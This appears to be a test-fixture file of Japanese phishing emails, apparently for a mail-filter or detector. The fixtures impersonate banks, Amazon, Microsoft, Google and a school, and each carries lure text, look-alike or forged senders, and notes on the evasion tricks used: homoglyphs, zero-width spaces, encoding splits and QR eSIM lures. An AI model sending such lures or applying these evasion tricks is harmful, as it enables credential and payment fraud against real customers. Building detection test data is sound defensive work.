P("amazon-order-iso2022-callback", "Amazon",
  ("Amazon.co.jp", "order-update@amazon-shopping-jp.com"),
  "Amazon.co.jp ご注文の確認 iPhone 17 Pro",
  """Amazon.co.jp をご利用いただき、ありがとうございます。

ご注文番号：250-7712308-4410581
商品：Apple iPhone 17 Pro 256GB
ご請求額：￥179,800

このご注文をキャンセルする場合は、こちらからお手続きください。
https://amazon-shopping-jp.com/order/cancel?o=250-7712308-4410581

Amazon.co.jp""", charset="iso-2022-jp",
  au=own("amazon-shopping-jp.com"),
  tricks="fake expensive order → cancel link; ISO-2022-JP; ￥ full-width yen")

P("smbc-bank-outlook-freemail", "三井住友銀行",
  ("三井住友銀行", "smbc.direct.info@outlook.com"),
  "【三井住友銀行】ワンタイムパスワードの再設定",
  "三井住友銀行をご利用いただきありがとうございます。\n\nSMBCダイレクトのワンタイムパスワードの再設定が必要です。\nhttps://smbc-direct.otp-renew.sbs/\n\n株式会社三井住友銀行",
  au=own("outlook.com", dmarc="pass"),
  tricks="free mail with bank display name; .sbs domain")

P("school-kyushokuhi-compromised", "学校 (なりすまし)",
  ("〇〇市立第二小学校 事務室", "info@aozora-juku.jp"),
  "【至急】給食費未納のお知らせ",
  "保護者各位\n\n11月分の給食費の引き落としができませんでした。\n期限までに下記よりクレジットカードでお支払いください。\nhttps://kyushoku-pay.school-portal.top/\n\n第二小学校 事務室",
  au=ok("aozora-juku.jp"),
  tricks="school impersonation from compromised cram-school mailbox (full pass); card payment page")

P("friend-compromised-look-this", "友人アカウント乗っ取り",
  ("鈴木 さやか", "sayaka.suzuki.1992@gmail.com"),
  "これ見て！",
  "ゆきへ\n\nこれ当たったんだけど、ゆきもやってみて！\nhttps://rakuten-gift.prize-2026.top/?ref=sayaka\n\nさやか",
  au=own("gmail.com", dmarc="pass"),
  tricks="compromised friend's Gmail; casual tone; prize link")

P("rakuten-mobile-qr-related", "楽天モバイル",
  ("楽天モバイル", "info@rakuten-mobile-jp.shop"),
  "【楽天モバイル】eSIM再発行手続きのお願い",
  "", kind="related", cte="quoted-printable",
  html=html("<p>楽天モバイルをご利用いただきありがとうございます。</p>",
            "<p>システム更新に伴い、eSIMの再発行が必要です。下記QRコードを読み取り手続きしてください。</p>",
            "<p><img src=\"cid:qr%s@x\"></p>" % h("rakuten-mobile-qr-related", 6)),
  attach=[qr_part("rakuten-mobile-qr-related")],
  au=own("rakuten-mobile-jp.shop"),
  tricks="QR code eSIM-hijack lure; .shop look-alike")

P("au-pay-zero-width-body", "au PAY",
  ("au P" + ZW + "AY", "info@aupay-wallet.biz"),
  "【au P" + ZW + "AY】残高が失効します",
  "au P" + ZW + "AY をご利用のお客様\n\nau P" + ZW + "AY 残高（3,200円）が有効期限切れにより失効します。\n"
  "https://aupay-wallet.biz/keep\n\nKDDI",
  au=own("aupay-wallet.biz"),
  tricks="zero-width space inside brand name; .biz look-alike")

P("microsoft-forged-m365-signin", "Microsoft",
  ("Microsoft アカウント チーム", "account-security-noreply@accountprotection.microsoft.com"),
  "Microsoft アカウントの異常なサインイン アクティビティ",
  "Microsoft アカウントで異常なサインイン アクティビティが検出されました。\n\n国/地域: ロシア\nIP アドレス: 185.220.101.9\n\n"
  "これがご自身でない場合は、アカウントを保護してください。\nhttps://account-live.protect-ms.top/\n\nMicrosoft アカウント チーム",
  to=WK, au=forged("accountprotection.microsoft.com", "mx.ponyfast-send.top", to=WK, p="REJECT"),
  tricks="forged official Microsoft sender (DMARC fail p=REJECT, compauth fail)")

P("ana-mileage-iso2022-split", "ANA",
  ("ANAマイレージクラブ", "amc@ana-mileage-club.jp.net"),
  "【ANA】ANAマイレージクラブ会員情報の確認と特典マイル受け取りのお願い",
  "ANAマイレージクラブ会員様\n\nご搭乗実績に基づき、特典5,000マイルを付与いたします。\n受取には会員情報の確認が必要です。\nhttps://ana-mileage-club.jp.net/receive\n\n全日本空輸",
  charset="iso-2022-jp", schunk=10,
  au=own("ana-mileage-club.jp.net"),
  tricks="ISO-2022-JP subject split over several encoded-words; .jp.net look-alike")

P("google-drive-share-fake", "Google",
  ("Google ドライブ", "drive-shares-noreply@googIe-drive.net"),
  "「経費精算_11月.pdf」が共有されました",
  "", kind="html", cte="base64",
  html=html("<p>佐藤 健一 さんがファイルを共有しました</p><p><b>経費精算_11月.pdf</b></p>",
            "<p>" + a("https://googIe-drive.net/file/d/1xk/view", "開く") + "</p><p>Google LLC</p>"),
  to=WK, au=own("googIe-drive.net", to=WK),
  tricks="capital-I for l homoglyph (googIe); shared-file lure")

P("mufg-utf8-q-subject", "三菱UFJ銀行",
  ("三菱UFJ銀行", "mufg@mufg-bank-direct.com"),
  "【三菱UFJ銀行】ワンタイムパスワードアプリのご利用停止",
  "三菱UFJダイレクトのワンタイムパスワードアプリが停止されました。\n再開は下記から。\nhttps://mufg-bank-direct.com/otp\n\n三菱UFJ銀行",
  smode="Q", au=own("mufg-bank-direct.com"),
  tricks="Q-encoded UTF-8 subject; look-alike domain")

P("yucho-raw8-subject-sms", "ゆうちょ銀行",
  ("ゆうちょ銀行", "jpbank@jp-bank-yucho.co"),
  "ゆうちょ銀行 重要なお知らせ",
  "ゆうちょ銀行です。お客様の口座に不正利用の可能性があります。ご確認ください。https://jp-bank-yucho.co/",
  smode="raw8", cte="8bit",
  au=own("jp-bank-yucho.co"),
  tricks="raw 8-bit UTF-8 subject; SMS-style short body; .co look-alike")

P("amazon-m365-bestguess-lookalike", "Amazon",
  ("Amazon", "store-news@amazon-co-jp.mobi"),
  "Amazonギフトカード 5,000円分 プレゼントのお知らせ",
  "Amazonご利用感謝キャンペーンに当選されました。\n受取期限：11月30日\nhttps://amazon-co-jp.mobi/gift\n",
  to=WK, au=("m365", dict(spf="pass", dkim="none", dmarc="none", mf="amazon-co-jp.mobi", dd="none", fd="amazon-co-jp.mobi", comp="none reason=405")),
  tricks="look-alike with SPF pass, no DKIM/DMARC (compauth none); gift lure")
